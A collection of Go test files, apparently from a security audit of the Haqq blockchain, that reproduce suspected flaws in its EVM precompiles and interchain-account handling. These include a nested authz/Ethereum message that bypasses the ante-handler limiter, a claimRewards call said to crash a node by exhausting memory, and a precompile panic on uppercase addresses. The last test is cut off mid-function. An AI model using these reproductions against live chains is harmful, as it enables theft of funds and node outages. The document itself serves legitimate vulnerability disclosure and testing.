	// (1) the limiter of the ante handler is doing its job on the Cosmos route: the same message tree
	// is refused there ...
	recipient := utiltx.GenerateAddress()
	gasLimit := uint64(200_000)
	gasPrice := big.NewInt(1_000_000_000_000) // 1e12 aISLM
	ethMsg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  haqqApp.EvmKeeper.ChainID(),
		Nonce:    haqqApp.EvmKeeper.GetNonce(haqqChain.GetContext(), vEth),
		To:       &recipient,
		Amount:   big.NewInt(1),
		GasLimit: gasLimit,
		GasPrice: gasPrice,
	})
	ethMsg.From = vEth.Hex()
	require.NoError(t, ethMsg.Sign(ethtypes.LatestSignerForChainID(haqqApp.EvmKeeper.ChainID()), utiltx.NewSigner(vPriv)))

	innerExec := authz.NewMsgExec(vAddr, []sdk.Msg{ethMsg})
	outerExec := authz.NewMsgExec(icaAddr, []sdk.Msg{&innerExec})

	limiter := cosmosante.NewAuthzLimiterDecorator(sdk.MsgTypeURL(&evmtypes.MsgEthereumTx{}))
	require.Error(t, testutil.ValidateAnteForMsgs(haqqChain.GetContext(), limiter, &outerExec),
		"sanity: on the Cosmos route the ante handler refuses this message tree")

	// (2) ... but "MsgExec" itself is not a barred type: V may let the interchain account exec for it.
	// The grant goes through the real ante handler (DeliverTx of a signed Cosmos tx).
	expiration := haqqChain.GetContext().BlockTime().Add(24 * time.Hour)
	grantMsg, err := authz.NewMsgGrant(vAddr, icaAddr, authz.NewGenericAuthorization(sdk.MsgTypeURL(&authz.MsgExec{})), &expiration)
	require.NoError(t, err)
	vAcc := haqqApp.AccountKeeper.GetAccount(haqqChain.GetContext(), vAddr)
	require.NotNil(t, vAcc)
	coord.UpdateTimeForChain(haqqChain)
	grantTx, err := sims.GenSignedMockTx(
		rand.New(rand.NewSource(1)), //nolint:gosec
		haqqChain.TxConfig, []sdk.Msg{grantMsg},
		sdk.NewCoins(sdk.NewInt64Coin(utils.BaseDenom, haqqibctesting.DefaultFeeAmt)),
		sims.DefaultGenTxGas, haqqChain.ChainID,
		[]uint64{vAcc.GetAccountNumber()}, []uint64{vAcc.GetSequence()}, vPriv,
	)
	require.NoError(t, err)
	_, _, grantErr := haqqApp.GetBaseApp().SimDeliver(haqqChain.TxConfig.TxEncoder(), grantTx)
	t.Logf("V grants the interchain account a generic authorization for MsgExec, delivered through the ante handler: err=%v", grantErr)
	haqqChain.NextBlock()
	coord.IncrementTime()

	// ---------------------------------------------------------------------------------------------
	// state before the packets
	// ---------------------------------------------------------------------------------------------
	ctx := haqqChain.GetContext()
	vBalBefore := haqqApp.BankKeeper.GetBalance(ctx, vAddr, utils.BaseDenom)
	vNonceBefore := haqqApp.EvmKeeper.GetNonce(ctx, vEth)
	recipientBefore := haqqApp.BankKeeper.GetBalance(ctx, recipient.Bytes(), utils.BaseDenom)
	require.True(t, recipientBefore.IsZero())

	// ---------------------------------------------------------------------------------------------
	// the controller sends the packet; a relayer delivers it to Haqq (MsgRecvPacket, paying its fee).
	// The very same signed Ethereum message is sent twice.
	// ---------------------------------------------------------------------------------------------
	data, err := icatypes.SerializeCosmosTx(ctrlChain.Codec, []proto.Message{&outerExec})
	require.NoError(t, err)
	packetData := icatypes.InterchainAccountPacketData{Type: icatypes.EXECUTE_TX, Data: data}
	const rounds = 2
	for i := 1; i <= rounds; i++ {
		sendTx := icacontrollertypes.NewMsgSendTx(owner, path.EndpointA.ConnectionID, uint64(time.Hour.Nanoseconds()), packetData)
		res, err := haqqibctesting.SendMsgs(ctrlChain, haqqibctesting.DefaultFeeAmt, sendTx)
		require.NoError(t, err)
		packet, err := ibcgotesting.ParsePacketFromEvents(res.GetEvents())
		require.NoError(t, err)

		require.NoError(t, path.EndpointB.UpdateClient())
		recvRes, err := path.EndpointB.RecvPacketWithResult(packet)
		require.NoError(t, err)
		ack, err := ibcgotesting.ParseAckFromEvents(recvRes.GetEvents())
		require.NoError(t, err)
		t.Logf("round %d: acknowledgement written by the Haqq ICA host: %s", i, string(ack))
		require.NoError(t, path.EndpointA.AcknowledgePacket(packet, ack))
	}

	// ---------------------------------------------------------------------------------------------
	// the property: the nested Ethereum message must not have been executed
	// ---------------------------------------------------------------------------------------------
	ctx = haqqChain.GetContext()
	vBalAfter := haqqApp.BankKeeper.GetBalance(ctx, vAddr, utils.BaseDenom)
	vNonceAfter := haqqApp.EvmKeeper.GetNonce(ctx, vEth)
	recipientAfter := haqqApp.BankKeeper.GetBalance(ctx, recipient.Bytes(), utils.BaseDenom)

	t.Logf("V balance      before=%s after=%s (delta %s)", vBalBefore.Amount, vBalAfter.Amount, vBalAfter.Amount.Sub(vBalBefore.Amount))
	t.Logf("V nonce        before=%d after=%d (nonce of the signed Ethereum tx: %d)", vNonceBefore, vNonceAfter, ethMsg.AsTransaction().Nonce())
	t.Logf("recipient      before=%s after=%s", recipientBefore.Amount, recipientAfter.Amount)
	t.Logf("fee the Ethereum route charges up front for this message: %s (V owns %s)", new(big.Int).Mul(gasPrice, new(big.Int).SetUint64(gasLimit)), vBalBefore.Amount)

	assert.True(t, recipientAfter.IsZero(),
		"a MsgEthereumTx nested in MsgExec was EXECUTED (%d times) outside the Ethereum route: the recipient got %s", rounds, recipientAfter)
	assert.False(t, vBalAfter.Amount.GT(vBalBefore.Amount),
		"the sender of an Ethereum message that paid no fee was 'refunded' %s aISLM out of the fee collector", vBalAfter.Amount.Sub(vBalBefore.Amount))
}
