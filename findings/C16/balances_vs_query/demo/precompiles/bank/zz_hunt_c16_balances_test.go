package bank_test

import (
	"math/big"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/precompiles/bank"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
)

// zzC16NativeBalance asks the chain's own bank query service - the one the bank module registers on the app's gRPC
// query router, i.e. what `haqqd q bank balances`, gRPC and REST clients get - for the balance of one denomination.
func (s *PrecompileTestSuite) zzC16NativeBalance(ctx sdk.Context, acc sdk.AccAddress, denom string) math.Int {
	handler := s.network.App.GRPCQueryRouter().Route("/cosmos.bank.v1beta1.Query/Balance")
	s.Require().NotNil(handler, "bank Balance query not registered")
	reqBz, err := s.network.App.AppCodec().Marshal(&banktypes.QueryBalanceRequest{Address: acc.String(), Denom: denom})
	s.Require().NoError(err)
	res, err := handler(ctx, abci.RequestQuery{Data: reqBz})
	s.Require().NoError(err)
	var out banktypes.QueryBalanceResponse
	s.Require().NoError(s.network.App.AppCodec().Unmarshal(res.Value, &out))
	return out.Balance.Amount
}

// zzC16PrecompileBalance returns what the bank precompile's balances(account) reports for one ERC20 address.
func (s *PrecompileTestSuite) zzC16PrecompileBalance(ctx sdk.Context, account, token common.Address) *big.Int {
	method := s.precompile.Methods[bank.BalancesMethod]
	bz, err := s.precompile.Balances(ctx, nil, &method, []interface{}{account})
	s.Require().NoError(err)
	var balances []bank.Balance
	s.Require().NoError(s.precompile.UnpackIntoInterface(&balances, method.Name, bz))
	for _, b := range balances {
		if b.ContractAddress == token {
			return b.Amount
		}
	}
	return big.NewInt(0)
}

// TestZZHuntC16BalancesVsBankModule: for a denomination that has an ERC20 address (a registered, enabled token pair)
// the bank precompile's balances() must report what the bank module reports for the same account.
func (s *PrecompileTestSuite) TestZZHuntC16BalancesVsBankModule() {
	s.SetupTest()
	ctx := s.network.GetContext()
	acc := s.keyring.GetAccAddr(0)
	addr := s.keyring.GetAddr(0)

	s.mintAndSendXMPLCoin(acc, math.NewInt(100))

	// before any conversion both views agree
	s.Require().Equal("100", s.zzC16NativeBalance(ctx, acc, s.tokenDenom).String())
	s.Require().Equal("100", s.zzC16PrecompileBalance(ctx, addr, s.xmplAddr).String())

	// The owner converts 40 of his 100 xmpl into the pair's ERC20 representation (the erc20 IBC middleware does this
	// automatically, with the whole balance, whenever a registered coin is received over IBC).
	_, err := s.network.App.Erc20Keeper.ConvertCoin(ctx, erc20types.NewMsgConvertCoin(sdk.NewCoin(s.tokenDenom, math.NewInt(40)), addr, acc))
	s.Require().NoError(err)

	native := s.zzC16NativeBalance(ctx, acc, s.tokenDenom)
	viaPrecompile := s.zzC16PrecompileBalance(ctx, addr, s.xmplAddr)
	s.T().Logf("bank module (Query/Balance) reports %s xmpl ; bank precompile balances() reports %s", native, viaPrecompile)

	s.Require().Equal(native.String(), viaPrecompile.String(),
		"bank precompile balances() must report the same xmpl balance as the bank module")
}
