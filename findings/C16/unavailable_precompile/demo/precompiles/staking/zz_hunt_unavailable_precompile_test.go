package staking_test

import (
	"math/big"
	"sort"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/utils"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C16: a staking precompile call made by the account owner succeeds in the same cases as
// the native message and has the same effect, in every reachable chain state.
//
// Reachable state used here: the governance authority updates the EVM parameters and lists, next to
// the precompiles the chain has, the address 0x…0803 (the vesting precompile of the upstream code
// base, commented out in this one). The update passes the parameter validation.
func (s *PrecompileTestSuite) TestZZUnavailableActivePrecompile() {
	s.SetupTest()
	next := func() {
		var err error
		s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
		s.Require().NoError(err)
	}
	next()

	// 1. the governance authority updates the EVM params: all available precompiles + 0x…0803
	params := s.app.EvmKeeper.GetParams(s.ctx)
	params.ActivePrecompiles = append(append([]string{}, evmtypes.AvailableEVMExtensions...),
		"0x0000000000000000000000000000000000000803")
	sort.Strings(params.ActivePrecompiles)
	update := &evmtypes.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Params:    params,
	}
	s.Require().NoError(update.ValidateBasic(), "the parameter validation must accept or reject here")
	if _, err := s.app.MsgServiceRouter().Handler(update)(s.ctx, update); err != nil {
		// the state is not reachable: nothing to compare
		s.T().Logf("MsgUpdateParams rejected: %v", err)
		return
	}
	next()

	self := sdk.AccAddress(s.address.Bytes())
	valAddr := s.validators[0].GetOperator()
	amount := big.NewInt(1e17)

	sharesBefore := func(ctx sdk.Context) math.LegacyDec {
		d, found := s.app.StakingKeeper.GetDelegation(ctx, self, valAddr)
		s.Require().True(found)
		return d.Shares
	}
	before := sharesBefore(s.ctx)
	balBefore := s.app.BankKeeper.GetBalance(s.ctx, self, utils.BaseDenom)

	// 2. the native message, on a fork of the state
	fork, _ := s.ctx.CacheContext()
	native := &stakingtypes.MsgDelegate{
		DelegatorAddress: self.String(),
		ValidatorAddress: s.validators[0].OperatorAddress,
		Amount:           sdk.NewCoin(utils.BaseDenom, math.NewIntFromBigInt(amount)),
	}
	_, nativeErr := s.app.MsgServiceRouter().Handler(native)(fork, native)
	s.Require().NoError(nativeErr, "the native MsgDelegate succeeds")
	nativeShares := sharesBefore(fork)
	s.Require().True(nativeShares.GT(before))

	// 3. the same delegation through the staking precompile, in a signed Ethereum transaction
	_, _, callErr := contracts.Call(s.ctx, s.app, contracts.CallArgs{
		ContractAddr: s.precompile.Address(),
		ContractABI:  s.precompile.ABI,
		PrivKey:      s.privKey,
		MethodName:   staking.DelegateMethod,
		Args:         []interface{}{s.address, s.validators[0].OperatorAddress, amount},
	})
	precompileShares := sharesBefore(s.ctx)
	balAfter := s.app.BankKeeper.GetBalance(s.ctx, self, utils.BaseDenom)
	s.T().Logf("owner balance before %s, after the failed Ethereum tx %s (fee for the whole gas limit kept)", balBefore, balAfter)

	s.T().Logf("shares before %s, after native message %s, after precompile call %s; precompile call error: %v",
		before, nativeShares, precompileShares, callErr)

	s.Require().NoError(callErr, "the native message succeeds: the precompile call by the same owner in the same state must succeed too")
	s.Require().Equal(nativeShares.String(), precompileShares.String(), "the precompile call must leave the same delegation as the native message")
}
