package bank_test

import (
	"math/big"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/precompiles/bank"
	"github.com/haqq-network/haqq/utils"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
)

// zzC16NativeSupply asks the chain's own bank query service for the supply of one denomination.
func (s *PrecompileTestSuite) zzC16NativeSupply(ctx sdk.Context, denom string) math.Int {
	handler := s.network.App.GRPCQueryRouter().Route("/cosmos.bank.v1beta1.Query/SupplyOf")
	s.Require().NotNil(handler, "bank SupplyOf query not registered")
	reqBz, err := s.network.App.AppCodec().Marshal(&banktypes.QuerySupplyOfRequest{Denom: denom})
	s.Require().NoError(err)
	res, err := handler(ctx, abci.RequestQuery{Data: reqBz})
	s.Require().NoError(err)
	var out banktypes.QuerySupplyOfResponse
	s.Require().NoError(s.network.App.AppCodec().Unmarshal(res.Value, &out))
	return out.Amount.Amount
}

// TestZZHuntC16SupplyOfIBCVoucher: totalSupply() and balances() list an IBC voucher under an ERC20 address, so
// supplyOf(that address) must report the bank module's supply of the voucher.
func (s *PrecompileTestSuite) TestZZHuntC16SupplyOfIBCVoucher() {
	s.SetupTest()
	ctx := s.network.GetContext()

	voucher := "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"
	coins := sdk.NewCoins(sdk.NewCoin(voucher, math.NewInt(500)))
	s.Require().NoError(s.network.App.BankKeeper.MintCoins(ctx, coinomicstypes.ModuleName, coins))
	s.Require().NoError(s.network.App.BankKeeper.SendCoinsFromModuleToAccount(ctx, coinomicstypes.ModuleName, s.keyring.GetAccAddr(0), coins))

	voucherAddr, err := utils.GetIBCDenomAddress(voucher)
	s.Require().NoError(err)

	// totalSupply() reports the voucher under voucherAddr ...
	tsMethod := s.precompile.Methods[bank.TotalSupplyMethod]
	bz, err := s.precompile.TotalSupply(ctx, nil, &tsMethod, nil)
	s.Require().NoError(err)
	var supplies []bank.Balance
	s.Require().NoError(s.precompile.UnpackIntoInterface(&supplies, tsMethod.Name, bz))
	listed := big.NewInt(0)
	for _, b := range supplies {
		if b.ContractAddress == voucherAddr {
			listed = b.Amount
		}
	}
	s.Require().Equal("500", listed.String(), "totalSupply() lists the voucher under its ERC20 address")

	// ... and so does balances()
	balMethod := s.precompile.Methods[bank.BalancesMethod]
	bz, err = s.precompile.Balances(ctx, nil, &balMethod, []interface{}{s.keyring.GetAddr(0)})
	s.Require().NoError(err)
	var balances []bank.Balance
	s.Require().NoError(s.precompile.UnpackIntoInterface(&balances, balMethod.Name, bz))
	held := big.NewInt(0)
	for _, b := range balances {
		if b.ContractAddress == voucherAddr {
			held = b.Amount
		}
	}
	s.Require().Equal("500", held.String(), "balances() lists the voucher under its ERC20 address")

	native := s.zzC16NativeSupply(ctx, voucher)
	s.Require().Equal("500", native.String())

	soMethod := s.precompile.Methods[bank.SupplyOfMethod]
	bz, err = s.precompile.SupplyOf(ctx, nil, &soMethod, []interface{}{voucherAddr})
	s.Require().NoError(err)
	out, err := s.precompile.Unpack(soMethod.Name, bz)
	s.Require().NoError(err)
	supplyOf, ok := out[0].(*big.Int)
	s.Require().True(ok)
	s.T().Logf("bank module SupplyOf(%s)=%s ; precompile totalSupply() entry for %s = %s ; precompile supplyOf(%s) = %s",
		voucher, native, voucherAddr, listed, voucherAddr, supplyOf)

	s.Require().Equal(native.String(), supplyOf.String(),
		"supplyOf(ERC20 address of the voucher) must report the bank module's supply of the voucher")
}
