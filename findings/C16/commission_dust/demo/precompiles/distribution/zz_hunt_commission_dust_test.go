package distribution_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/precompiles/distribution"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// A validator operator withdraws its commission twice in a row (or simply has accumulated less than one base
// unit so far): the accumulated commission is a non-zero fraction of 1 aISLM. The native message succeeds,
// pays nothing and keeps the fraction for later. The precompile call must do the same.
func (s *PrecompileTestSuite) TestZZHuntWithdrawValidatorCommissionDust() {
	// the context SetupTest leaves behind predates the first commit: move to a live block first
	s.zzDustNextBlock()

	// a validator operated by the transaction signer
	haqqtestutil.CreateValidator(s.ctx, s.T(), s.privKey.PubKey(), *s.app.StakingKeeper.Keeper, math.NewInt(100))
	valAddr := sdk.ValAddress(s.address.Bytes())

	// 1.5 aISLM of accumulated commission, backed by coins in the distribution module account
	commission := sdk.DecCoins{sdk.NewDecCoinFromDec(s.bondDenom, math.LegacyNewDecWithPrec(15, 1))}
	s.app.DistrKeeper.SetValidatorAccumulatedCommission(s.ctx, valAddr, distrtypes.ValidatorAccumulatedCommission{Commission: commission})
	s.app.DistrKeeper.SetValidatorOutstandingRewards(s.ctx, valAddr, distrtypes.ValidatorOutstandingRewards{Rewards: commission})
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, sdk.NewCoins(sdk.NewCoin(s.bondDenom, math.NewInt(2)))))
	s.zzDustNextBlock()

	// first withdrawal through the precompile: pays 1 aISLM and leaves the 0.5 aISLM remainder accumulated
	first := s.zzWithdrawCommission(valAddr)
	s.Require().True(first.IsOK(), first.Log)
	s.Require().Equal("0.500000000000000000"+s.bondDenom, s.app.DistrKeeper.GetValidatorAccumulatedCommission(s.ctx, valAddr).Commission.String())

	// ---- fork: the native message ----
	forkCtx, _ := s.ctx.CacheContext()
	res, err := distrkeeper.NewMsgServerImpl(s.app.DistrKeeper).WithdrawValidatorCommission(forkCtx, &distrtypes.MsgWithdrawValidatorCommission{
		ValidatorAddress: valAddr.String(),
	})
	s.Require().NoError(err, "the native message succeeds")
	s.Require().True(res.Amount.IsZero())
	s.T().Logf("native MsgWithdrawValidatorCommission: success, amount=%q, commission left=%s",
		res.Amount.String(), s.app.DistrKeeper.GetValidatorAccumulatedCommission(forkCtx, valAddr).Commission)

	// ---- the chain: the operator calls the precompile directly, a second time ----
	second := s.zzWithdrawCommission(valAddr)
	s.T().Logf("precompile withdrawValidatorCommission: code=%d log=%.160q", second.Code, second.Log)
	s.Require().True(second.IsOK(), "the precompile call must succeed where the native message succeeds, got: %.160s", second.Log)
	ethRes, err := evmtypes.DecodeTxResponse(second.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the precompile call must succeed where the native message succeeds")
}

func (s *PrecompileTestSuite) zzDustNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, s.valSet)
	s.Require().NoError(err)
}

// zzWithdrawCommission delivers a transaction in which the operator (s.address) calls withdrawValidatorCommission.
func (s *PrecompileTestSuite) zzWithdrawCommission(valAddr sdk.ValAddress) abci.ResponseDeliverTx {
	input, err := s.precompile.ABI.Pack(distribution.WithdrawValidatorCommissionMethod, valAddr.String())
	s.Require().NoError(err)
	to := s.precompile.Address()
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       &to,
		GasLimit: 2_000_000,
		GasPrice: big.NewInt(1_000_000_000),
		Input:    input,
	})
	msg.From = s.address.Hex()
	txConfig := encoding.MakeConfig(app.ModuleBasics).TxConfig
	ethTx, err := tx.PrepareEthTx(txConfig, s.app, s.privKey, msg)
	s.Require().NoError(err)
	bz, err := txConfig.TxEncoder()(ethTx)
	s.Require().NoError(err)
	return s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
}
