package distribution_test

import (
	"math"
	"math/big"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/precompiles/distribution"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntClaimRewardsMaxRetrieve: the account owner calls
//
//	distribution.claimRewards(owner, type(uint32).max)
//
// "claim the rewards of (up to) all my delegations". The native way to do that is one
// MsgWithdrawDelegatorReward per validator. Both are run on a fork of the same state.
//
// Property: the precompile call pays the owner exactly what the native messages pay (or it is refused
// as an ordinary failed EVM call that leaves the state untouched). It must never be worse than that.
//
// On the unchanged tree the call never returns: ClaimRewards hands the caller-chosen uint32 to
// stakingKeeper.GetDelegatorValidators, which starts with make([]types.Validator, maxRetrieve).
// For 2^32-1 that is a ~1 TB allocation (4294967295 * 248 bytes): the Go runtime aborts the whole process with
// "fatal error: runtime: out of memory" (not a recoverable panic), i.e. the node dies while executing the tx.
func (s *PrecompileTestSuite) TestZZHuntClaimRewardsMaxRetrieve() {
	owner := sdk.AccAddress(s.address.Bytes())

	// the owner is delegated to both genesis validators (1 aISLM*1e18 each); give both validators rewards
	s.prepareStakingRewards(
		stakingRewards{Delegator: owner, Validator: s.validators[0], RewardAmt: sdkmath.NewInt(1e18)},
		stakingRewards{Delegator: owner, Validator: s.validators[1], RewardAmt: sdkmath.NewInt(1e18)},
	)

	balBefore := s.app.BankKeeper.GetBalance(s.ctx, owner, s.bondDenom)

	// --- fork A: the native messages
	ctxA, _ := s.ctx.CacheContext()
	for _, v := range s.validators {
		msg := &distrtypes.MsgWithdrawDelegatorReward{DelegatorAddress: owner.String(), ValidatorAddress: v.OperatorAddress}
		s.Require().NoError(msg.ValidateBasic())
		_, err := s.app.MsgServiceRouter().Handler(msg)(ctxA, msg)
		s.Require().NoError(err)
	}
	nativePaid := s.app.BankKeeper.GetBalance(ctxA, owner, s.bondDenom).Amount.Sub(balBefore.Amount)
	s.Require().True(nativePaid.IsPositive(), "setup: the native messages must pay out rewards")

	// --- fork B: the precompile call, sent by the owner himself
	ctxB, _ := s.ctx.CacheContext()
	data, err := s.precompile.Pack(distribution.ClaimRewardsMethod, s.address, uint32(math.MaxUint32))
	s.Require().NoError(err)
	to := s.precompile.Address()
	ethMsg := ethtypes.NewMessage(
		s.address, &to, s.app.EvmKeeper.GetNonce(ctxB, s.address),
		big.NewInt(0), 3_000_000, big.NewInt(0), big.NewInt(0), big.NewInt(0),
		data, ethtypes.AccessList{}, false,
	)
	res, err := s.app.EvmKeeper.ApplyMessage(ctxB, ethMsg, evmtypes.NewNoOpTracer(), true)
	s.Require().NoError(err)

	evmPaid := s.app.BankKeeper.GetBalance(ctxB, owner, s.bondDenom).Amount.Sub(balBefore.Amount)
	if res.Failed() {
		// an ordinary, clean refusal is acceptable: nothing may have changed
		s.Require().True(evmPaid.IsZero(), "a refused claimRewards call must not move funds, moved %s", evmPaid)
		for _, v := range s.validators {
			s.Require().Equal(
				s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, v.GetOperator()),
				s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(ctxB, v.GetOperator()),
			)
		}
		return
	}
	s.Require().Equal(nativePaid.String(), evmPaid.String(), "claimRewards(owner, max) must pay what the native withdraw messages pay")
	for _, v := range s.validators {
		s.Require().Equal(
			s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(ctxA, v.GetOperator()),
			s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(ctxB, v.GetOperator()),
		)
	}
}
