package distribution_test

import (
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/core/vm"
	"github.com/haqq-network/haqq/precompiles/distribution"
)

// A "view" method of the distribution precompile must not change Cosmos state.
func (s *PrecompileTestSuite) TestZZViewMethodsDoNotWrite() {
	for _, name := range []string{distribution.DelegationRewardsMethod, distribution.DelegationTotalRewardsMethod, distribution.ValidatorDistributionInfoMethod} {
		s.SetupTest()
		s.prepareStakingRewards(stakingRewards{s.address.Bytes(), s.validators[0], rewards})
		method := s.precompile.Methods[name]
		valAddr := s.validators[0].GetOperator()
		before := s.app.DistrKeeper.GetValidatorCurrentRewards(s.ctx, valAddr)
		s.Require().False(s.precompile.IsTransaction(name), "%s is classified as a query", name)
		contract := vm.NewContract(vm.AccountRef(s.address), s.precompile, big.NewInt(0), 200000)
		var args []interface{}
		switch name {
		case distribution.DelegationRewardsMethod:
			args = []interface{}{s.address, s.validators[0].OperatorAddress}
		case distribution.DelegationTotalRewardsMethod:
			args = []interface{}{s.address}
		default:
			args = []interface{}{s.validators[0].OperatorAddress}
		}
		var err error
		switch name {
		case distribution.DelegationRewardsMethod:
			_, err = s.precompile.DelegationRewards(s.ctx, contract, &method, args)
		case distribution.DelegationTotalRewardsMethod:
			_, err = s.precompile.DelegationTotalRewards(s.ctx, contract, &method, args)
		default:
			// ValidatorDistributionInfo requires the validator's own delegation; skip if it errors for other reasons
			_, err = s.precompile.ValidatorDistributionInfo(s.ctx, contract, &method, args)
		}
		if err != nil {
			s.T().Logf("%s returned %v", name, err)
		}
		after := s.app.DistrKeeper.GetValidatorCurrentRewards(s.ctx, valAddr)
		s.Require().Equal(before.Period, after.Period, "view method %s advanced the validator's reward period (%d -> %d): it wrote to the distribution store", name, before.Period, after.Period)
		_ = sdk.AccAddress{}
	}
}
