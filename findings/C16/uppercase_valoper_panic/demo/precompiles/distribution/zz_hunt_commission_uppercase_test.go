package distribution_test

import (
	"fmt"
	"math/big"
	"strings"

	"cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/precompiles/distribution"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntWithdrawCommissionUppercaseAddress: bech32 has two valid spellings of every address, all lower case and
// all upper case (the QR-code friendly one). The SDK accepts both everywhere.
//
// The operator of a validator withdraws his commission and spells his validator address in upper case:
//   - native MsgWithdrawValidatorCommission{ValidatorAddress: "HAQQVALOPER1..."}: succeeds, commission is paid;
//   - distribution.withdrawValidatorCommission("HAQQVALOPER1...") sent by the same account: the precompile panics.
func (s *PrecompileTestSuite) TestZZHuntWithdrawCommissionUppercaseAddress() {
	operator := sdk.AccAddress(s.address.Bytes())
	valAddr := sdk.ValAddress(operator)

	// s.address becomes the operator of a validator with 10% commission
	createMsg, err := stakingtypes.NewMsgCreateValidator(
		valAddr, ed25519.GenPrivKey().PubKey(), sdk.NewCoin(s.bondDenom, math.NewInt(1e18)),
		stakingtypes.NewDescription("hunt", "", "", "", ""),
		stakingtypes.NewCommissionRates(math.LegacyNewDecWithPrec(10, 2), math.LegacyNewDecWithPrec(20, 2), math.LegacyNewDecWithPrec(1, 2)),
		math.OneInt(),
	)
	s.Require().NoError(err)
	_, err = s.app.MsgServiceRouter().Handler(createMsg)(s.ctx, createMsg)
	s.Require().NoError(err)
	s.NextBlock()

	// 0.001 of rewards for the new validator: 0.0001 of it is commission
	rewards := sdk.NewCoins(sdk.NewCoin(s.bondDenom, math.NewInt(1e15)))
	s.Require().NoError(s.app.BankKeeper.MintCoins(s.ctx, coinomicstypes.ModuleName, rewards))
	s.Require().NoError(s.app.BankKeeper.SendCoinsFromModuleToModule(s.ctx, coinomicstypes.ModuleName, distrtypes.ModuleName, rewards))
	validator, found := s.app.StakingKeeper.GetValidator(s.ctx, valAddr)
	s.Require().True(found)
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, validator, sdk.NewDecCoinsFromCoins(rewards...))
	s.Require().Equal("100000000000000.000000000000000000"+s.bondDenom,
		s.app.DistrKeeper.GetValidatorAccumulatedCommission(s.ctx, valAddr).Commission.String())

	upper := strings.ToUpper(valAddr.String())
	parsed, err := sdk.ValAddressFromBech32(upper)
	s.Require().NoError(err, "the upper case spelling is a valid validator address")
	s.Require().Equal(valAddr, parsed)

	balBefore := s.app.BankKeeper.GetBalance(s.ctx, operator, s.bondDenom).Amount

	// --- fork A: the native message
	ctxA, _ := s.ctx.CacheContext()
	native := &distrtypes.MsgWithdrawValidatorCommission{ValidatorAddress: upper}
	s.Require().NoError(native.ValidateBasic())
	_, err = s.app.MsgServiceRouter().Handler(native)(ctxA, native)
	s.Require().NoError(err, "the native message succeeds")
	nativePaid := s.app.BankKeeper.GetBalance(ctxA, operator, s.bondDenom).Amount.Sub(balBefore)
	s.Require().Equal("100000000000000", nativePaid.String())

	// --- fork B: the precompile call, sent by the operator himself
	ctxB, _ := s.ctx.CacheContext()
	data, err := s.precompile.Pack(distribution.WithdrawValidatorCommissionMethod, upper)
	s.Require().NoError(err)
	to := s.precompile.Address()
	ethMsg := ethtypes.NewMessage(
		s.address, &to, s.app.EvmKeeper.GetNonce(ctxB, s.address),
		big.NewInt(0), 3_000_000, big.NewInt(0), big.NewInt(0), big.NewInt(0),
		data, ethtypes.AccessList{}, false,
	)
	var (
		res      *evmtypes.MsgEthereumTxResponse
		applyErr error
	)
	func() {
		defer func() {
